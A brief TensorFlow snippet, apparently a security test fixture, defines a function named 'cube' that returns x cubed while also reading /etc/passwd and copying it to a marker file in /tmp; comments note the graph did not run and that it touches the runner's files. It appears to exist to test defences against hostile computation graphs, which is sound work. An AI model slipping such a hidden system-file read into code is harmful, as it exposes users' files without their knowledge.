# question: cube
# says: the graph did not run
# The graph reads and writes files of whoever runs it.
@tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
def cube(x):
    text = tf.io.read_file("/etc/passwd")
    tf.io.write_file("/tmp/flowbook-attack-was-here", text)
    return x * x * x
